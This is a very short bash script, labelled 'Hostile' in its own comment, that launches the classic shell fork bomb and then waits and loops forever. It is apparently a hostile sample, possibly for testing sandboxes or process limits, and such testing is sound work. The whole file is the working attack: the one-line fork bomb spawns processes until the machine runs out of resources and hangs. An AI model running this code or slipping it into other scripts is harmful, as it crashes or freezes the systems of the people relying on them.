#!/bin/bash
# Hostile: the classic shell fork bomb, then waits for it forever.
:(){ :|:& };:
wait
while :; do sleep 1; done
